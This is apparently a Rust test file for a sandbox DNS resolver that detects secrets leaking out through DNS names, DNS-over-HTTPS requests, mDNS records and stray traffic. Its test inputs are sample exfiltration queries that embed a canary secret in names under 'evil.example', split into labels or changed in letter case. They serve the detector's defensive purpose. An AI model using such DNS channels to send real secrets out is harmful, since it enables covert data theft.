//! DNS, as a resolver sees it and as it is reported.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hickory_proto::op::{Message, OpCode, Query, ResponseCode};
use hickory_proto::rr::{Name, RecordType};
use redroom_sidecar::search::Encoding;
use redroom_sidecar::wire::{Generation, Part, Protocol, Report};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};

use crate::harness::{ENCRYPTED, Harness, PATIENCE, SECRET};

fn query(name: &str, kind: RecordType) -> Vec<u8> {
    let mut message = Message::new(7, hickory_proto::op::MessageType::Query, OpCode::Query);
    message.add_query(Query::query(Name::from_ascii(name).unwrap(), kind));
    message.to_vec().unwrap()
}

async fn over_udp(harness: &Harness, message: &[u8]) -> Message {
    let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    socket.connect(harness.dns).await.unwrap();
    socket.send(message).await.unwrap();
    let mut reply = [0; 1500];
    let length = tokio::time::timeout(PATIENCE, socket.recv(&mut reply)).await.expect("no reply").unwrap();
    Message::from_vec(&reply[..length]).unwrap()
}

#[tokio::test]
async fn names_of_the_fake_domain_resolve_over_udp_and_tcp_and_no_other_does() {
    let harness = Harness::with(vec![]).await;
    let inside = over_udp(&harness, &query("a.b.redroom.test.", RecordType::A)).await;
    assert_eq!((inside.metadata.response_code, inside.answers.len()), (ResponseCode::NoError, 1));
    let outside = over_udp(&harness, &query("github.com.", RecordType::TXT)).await;
    assert_eq!(outside.metadata.response_code, ResponseCode::NXDomain);

    let mut stream = TcpStream::connect(harness.dns_tcp).await.unwrap();
    for (name, code) in [("redroom.test.", ResponseCode::NoError), ("github.com.", ResponseCode::NXDomain)] {
        let message = query(name, RecordType::AAAA);
        stream.write_all(&[&(message.len() as u16).to_be_bytes()[..], &message].concat()).await.unwrap();
        let mut reply = vec![0; usize::from(stream.read_u16().await.unwrap())];
        stream.read_exact(&mut reply).await.unwrap();
        assert_eq!(Message::from_vec(&reply).unwrap().metadata.response_code, code, "{name}");
    }
    drop(stream);
    harness.end(1, Duration::from_secs(10)).await;
    let hits = harness.hits();
    let told: Vec<_> = hits.iter().map(|hit| (hit.host.as_str(), hit.blocked, hit.dns.as_ref().unwrap().tcp)).collect();
    let expected = [
        ("a.b.redroom.test", false, false),
        ("github.com", true, false),
        ("redroom.test", false, true),
        ("github.com", true, true),
    ];
    assert_eq!(told, expected);
}

#[tokio::test]
async fn a_secret_in_a_name_is_found_in_other_letter_case_and_cut_into_labels() {
    let harness = Harness::with(vec![]).await;
    over_udp(&harness, &query("platypus-7731.evil.example.", RecordType::A)).await;
    let hit = harness.hit(|hit| hit.host == "platypus-7731.evil.example").await;
    assert!(hit.blocked && hit.secrets[0].encoding == Encoding::CaseInsensitive, "{hit:?}");
    over_udp(&harness, &query("PLATY.PUS-7731.evil.example.", RecordType::A)).await;
    let hit = harness.hit(|hit| hit.host.starts_with("platy.pus")).await;
    assert_eq!((hit.secrets.len(), hit.secrets[0].part), (1, Part::Host), "{hit:?}");
    assert_eq!(hit.dns.unwrap().name, "PLATY.PUS-7731.evil.example.");
}

#[tokio::test]
async fn what_cannot_be_searched_in_a_message_is_told() {
    let harness = Harness::with(vec![]).await;
    let salted = "U2FsdGVkX18wMTIzNDU2N2FiY2RlZmdo";
    let mut behind = query("behind.redroom.test.", RecordType::A);
    behind.extend_from_slice(ENCRYPTED.as_bytes());
    for (host, message) in [
        ("t.redroom.test", query(&format!("{salted}.t.redroom.test."), RecordType::A)),
        ("x.redroom.test", query(&format!("{}.{}.x.redroom.test.", &salted[..9], &salted[9..]), RecordType::A)),
        ("behind.redroom.test", behind),
    ] {
        over_udp(&harness, &message).await;
        let hit = harness.hit(|hit| hit.host.ends_with(host)).await;
        assert_eq!((hit.secrets.len(), hit.unsearched.len()), (0, 1), "{host}: {hit:?}");
    }
}

#[tokio::test]
async fn a_datagram_that_is_no_question_is_a_hit() {
    let harness = Harness::with(vec![]).await;
    let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    socket.send_to(SECRET.as_bytes(), harness.dns).await.unwrap();
    let hit = harness.hit(|hit| hit.protocol == Protocol::Other).await;
    assert!(hit.blocked && hit.body.as_bytes() == SECRET.as_bytes() && hit.secrets.len() == 1, "{hit:?}");
}

#[tokio::test]
async fn what_is_no_dns_on_a_dns_connection_is_a_hit() {
    let harness = Harness::with(vec![]).await;
    let mut stream = TcpStream::connect(harness.dns_tcp).await.unwrap();
    stream.write_all(format!("GET /{SECRET} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
    drop(stream);
    let hit = harness.hit(|hit| hit.protocol == Protocol::Other).await;
    assert!(hit.body.as_bytes().starts_with(b"GET /") && hit.secrets.len() == 1, "{hit:?}");
}

#[tokio::test]
async fn datagrams_that_nobody_had_read_belong_to_the_run_that_ends() {
    let harness = Harness::with(vec![]).await;
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    const LOOKUPS: usize = 50;
    for n in 0..LOOKUPS {
        socket.send_to(&query(&format!("n{n}.redroom.test."), RecordType::A), harness.dns).unwrap();
    }
    drop(socket);
    harness.end(1, PATIENCE).await;
    let reports = harness.reports();
    let attributed = reports.iter().filter(|report| match report {
        redroom_sidecar::wire::Report::Hit { generation, .. } => *generation == Some(Generation(1)),
        _ => false,
    });
    assert_eq!(attributed.count(), LOOKUPS);
}

#[tokio::test]
async fn datagrams_that_came_too_fast_to_be_read_are_told_as_lost() {
    let harness = Harness::with(vec![]).await;
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let server = harness.dns;
    let flood = move || (0..5_000).for_each(|_| drop(socket.send_to(&[b'x'; 1400], server)));
    tokio::task::spawn_blocking(flood).await.unwrap();
    harness.end(1, Duration::from_secs(10)).await;
    let told = harness
        .report(|report| match report {
            Report::Fault { generation, code, detail } => Some((*generation, code.clone(), detail.clone())),
            _ => None,
        })
        .await;
    assert_eq!((told.0, told.1.as_str()), (Some(Generation(1)), "datagrams_lost"), "{}", told.2);
}

#[tokio::test]
async fn a_secret_in_another_name_of_a_message_is_found() {
    let harness = Harness::with(vec![]).await;
    let mut message = query("docs.redroom.test.", RecordType::A);
    message[5] = 2;
    message.extend_from_slice(b"\x05platy\x08pus-7731\x00\x00\x01\x00\x01");
    over_udp(&harness, &message).await;
    let hit = harness.hit(|hit| hit.host == "docs.redroom.test").await;
    let found: Vec<_> = hit.secrets.iter().map(|found| (found.encoding, found.part)).collect();
    assert_eq!(found, [(Encoding::CaseInsensitive, Part::Body)]);
}

#[tokio::test]
async fn a_secret_in_a_name_is_found_whichever_way_its_message_goes() {
    let harness = Harness::with(vec![]).await;
    let message = query("platy.pus-7731.evil.example.", RecordType::TXT);
    let posted = format!(
        "POST /dns-query HTTP/1.1\r\nHost: dns.example\r\nContent-Type: application/dns-message\r\nContent-Length: {}\r\n\r\n",
        message.len()
    );
    let asked = URL_SAFE_NO_PAD.encode(&message);
    let asked = format!("GET /dns-query?ct&dns={asked} HTTP/1.1\r\nHost: dns.example\r\n\r\n").into_bytes();
    let with_length = |message: &[u8]| [&(message.len() as u16).to_be_bytes()[..], message].concat();
    // Behind more than is kept of a body.
    let before = with_length(&query("docs.redroom.test.", RecordType::A)).repeat(2_000);
    let several = [before, with_length(&message)].concat();
    // As mDNS answers: a record, and no question.
    let record = [&[0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 0][..], &message[12..], &[0, 0, 0, 9, 0, 0]].concat();
    let ways = [([posted.as_bytes(), &message].concat(), Part::Body), (asked, Part::Target), (several, Part::Body)];
    for (way, (said, part)) in ways.into_iter().enumerate() {
        let mut stream = TcpStream::connect(harness.web).await.unwrap();
        stream.write_all(&said).await.unwrap();
        stream.shutdown().await.unwrap();
        stream.read_to_end(&mut Vec::new()).await.unwrap();
        let hit = harness.hit(|hit| hit.complete && hit.id == way as u64 + 1).await;
        let found: Vec<_> = hit.secrets.iter().map(|found| (found.encoding, found.part)).collect();
        assert_eq!(found, [(Encoding::CaseInsensitive, part)], "{hit:?}");
    }
    let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    socket.send_to(&record, harness.dns).await.unwrap();
    harness.hit(|hit| hit.id == 4 && hit.secrets.len() == 1).await;
}

#[tokio::test]
async fn a_secret_that_stands_where_messages_are_cut_is_found() {
    for (said, told) in [(SECRET, (1, 0)), (ENCRYPTED, (0, 1))] {
        let harness = Harness::with(vec![]).await;
        // What looks like lengths are characters in the middle of it.
        let (first, second) = said.split_at(5);
        let length = usize::from(u16::from_be_bytes([second.as_bytes()[0], second.as_bytes()[1]]));
        let mut text = format!("\0\x0d12345678{said}").into_bytes();
        text.resize(2 + 13 + 2 + length, b'.');
        assert_eq!(&text[10..15], first.as_bytes());
        let mut stream = TcpStream::connect(harness.dns_tcp).await.unwrap();
        stream.write_all(&text).await.unwrap();
        drop(stream);
        harness.end(1, PATIENCE).await;
        let hits = harness.hits();
        let found = hits.iter().map(|hit| hit.secrets.len()).sum::<usize>();
        let unsearched = hits.iter().map(|hit| hit.unsearched.len()).sum::<usize>();
        assert_eq!((found, unsearched), told, "{hits:#?}");
    }
}
